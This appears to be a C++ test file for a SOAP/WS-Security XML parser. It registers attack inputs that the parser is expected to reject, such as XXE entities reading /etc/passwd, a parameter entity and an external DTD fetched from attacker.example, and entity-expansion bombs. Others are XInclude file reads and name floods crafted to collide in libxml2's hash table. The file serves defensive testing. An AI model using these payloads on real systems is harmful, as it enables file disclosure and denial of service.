// What must not get past the XML parser.
#include <algorithm>

#include "tests/attack/table/table.hpp"

namespace hutong::attack {

namespace {

using test::WssTemplate;

// Of four letters and digits, another for each number below 1.2 million.
std::string short_name(int number) {
    constexpr std::string_view digits = "abcdefghijklmnopqrstuvwxyz0123456789";
    std::string name(1, digits[static_cast<std::size_t>(number / 46'656 % 26)]);
    for (const int unit : {1296, 36, 1}) name += digits[static_cast<std::size_t>(number / unit % 36)];
    return name;
}

// Every name of a text is kept in a hash table of the parser, whose chains grow with their number: by chance,
// or because they were made to fall together.
void many_names(Table& table) {
    constexpr int enough = 33'000;
    const std::string reason = "more than 32768 different names";
    const auto in_body = [](const std::string& body) {
        return plain([&](WssTemplate& m) { m.body = "<b>" + body + "</b>"; });
    };
    const auto elements = [](int count) {
        std::string all;
        for (int i = 0; i < count; ++i) all += "<" + short_name(i) + "/>";
        return all;
    };
    const auto spread = [](const std::string& first, const std::string& second) {
        std::string all;
        for (int i = 0; i < enough; ++i) {
            if (i % 50 == 0) all += i == 0 ? "<e" : "/><e";
            all += first + short_name(i) + second + short_name(i) + "\"";
        }
        return all + "/>";
    };
    table.control("many names", in_body(elements(30'000)));
    table.signed_so("more names than a message has: elements", in_body(elements(enough)), reason);
    table.signed_so("more names than a message has: attributes", in_body(spread(" ", "=\"")), reason);
    table.signed_so("more names than a message has: prefixes", in_body(spread(" xmlns:", "=\"urn:")), reason);
    table.changed("more names than a message has: in the Header", after("<soap:Header>", elements(enough)),
                  reason);
    // While it is small libxml2's table tells names of up to ten bytes by their first and the sum of the
    // others, whatever number the hash of the large one begins with.
    std::string letters = "abcdefgh";
    std::string colliding;
    for (int i = 0; i < enough; ++i, std::next_permutation(letters.begin(), letters.end()))
        colliding += "<n" + letters + "/>";
    table.signed_so("names that collide", in_body(colliding), reason);
}

}  // namespace

void xml_level(Table& table) {
    const auto in_front = [](const std::string& dtd) {
        return [=](const std::string& text) { return dtd + text; };
    };
    table.changed("DTD", in_front("<!DOCTYPE x>"), "DTD");
    table.changed("XXE", in_front("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"), "DTD");
    table.changed("parameter entity",
                  in_front("<!DOCTYPE x [<!ENTITY % e SYSTEM \"http://attacker.example/\"> %e;]>"), "DTD");
    table.changed("entity bomb", in_front("<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]>"),
                  "DTD");
    table.changed("entity bomb of references only",
                  in_front("<!DOCTYPE x [<!ENTITY a \"&b;&b;\"><!ENTITY b \"&a;&a;\">]>"), "DTD");
    table.changed("parameter entity bomb",
                  in_front("<!DOCTYPE x [<!ENTITY % a \"<!ENTITY b 'bbbb'>\"><!ENTITY % c \"&#37;a;&#37;a;\">"
                           "<!ENTITY % d \"&#37;c;&#37;c;\">%d;]>"),
                  "DTD");
    table.changed("external DTD", in_front("<!DOCTYPE x SYSTEM \"http://attacker.example/x.dtd\">"), "DTD");
    table.changed("DTD behind a comment", in_front("<!-- " + std::string(5000, 'x') + " --><!DOCTYPE x>"),
                  "DTD");
    table.changed(
        "DTD in UTF-16",
        [](const std::string& text) {
            std::string wide = "\xff\xfe";
            for (const char c : "<!DOCTYPE x [<!ENTITY e \"e\">]>" + replaced(text, "税务", "tax")) {
                wide += c;
                wide += '\0';
            }
            return wide;
        },
        "DTD");
    table.changed("Ids declared by a DTD", in_front("<!DOCTYPE x [<!ATTLIST po:order x ID #IMPLIED>]>"),
                  "DTD");
    std::string open, close;
    for (int i = 0; i < 100; ++i) {
        open += "<d>";
        close += "</d>";
    }
    table.changed("depth", after("<soap:Header>", open + close), "deeper");
    table.signed_so("depth in the Body", plain([&](test::WssTemplate& m) { m.body = open + close; }),
                    "deeper");
    std::string attributes;
    for (int i = 0; i < 100; ++i) attributes += " a" + std::to_string(i) + "=\"\"";
    table.changed("attribute count", after("<soap:Header>", "<d" + attributes + "/>"),
                  "attributes per element");
    table.changed("long name", after("<soap:Header>", "<" + std::string(5000, 'n') + "/>"),
                  "element name length");
    table.changed("long attribute name", after("<soap:Header>", "<d " + std::string(5000, 'n') + "=\"\"/>"),
                  "attribute name length");
    table.changed("long namespace",
                  after("<soap:Header>", "<d xmlns=\"urn:" + std::string(100000, 'n') + "\"/>"),
                  "attribute value length|namespace");
    table.changed("relative namespace", after("<soap:Header>", "<d xmlns=\"relative\"/>"),
                  "relative|could not be digested");
    table.changed("long attribute", after("<soap:Header>", "<d a=\"" + std::string(100000, 'v') + "\"/>"),
                  "attribute value length");
    table.changed("not well-formed", after("<soap:Header>", "<d>"), "not well-formed");
    table.changed(
        "XInclude is left alone",
        replace("税务", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"/etc/passwd\"/>"),
        "#Body does not fit");
    std::string crowd;
    for (int i = 0; i < 30'000; ++i) crowd += " " + short_name(i) + "=\"\"";
    table.changed("thirty thousand attributes of one tag", after("<soap:Header>", "<d" + crowd + "/>"),
                  "attributes per element");
    table.changed("thirty thousand attributes of one tag in the Body",
                  before("<po:order", "<d" + crowd + "/>"), "attributes per element");
    many_names(table);
    std::string namespaces;
    for (int i = 0; i < 100; ++i) namespaces += " xmlns:n" + std::to_string(i) + "=\"urn:n\"";
    table.changed("namespace declarations", after("<soap:Header>", "<d" + namespaces + "/>"),
                  "attributes per element");
    table.changed("XInclude in the Header",
                  after("<soap:Header>",
                        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"/etc/passwd\" "
                        "parse=\"text\" wsu:Id=\"Body\"/>"),
                  "occurs more than once");
    table.changed("an entity that nobody declared", replace("税务", "&e;"), "not well-formed");
    table.changed("a processing instruction in the Body", before("<po:order", "<?pi x?>"),
                  "processing instructions");
}

}  // namespace hutong::attack
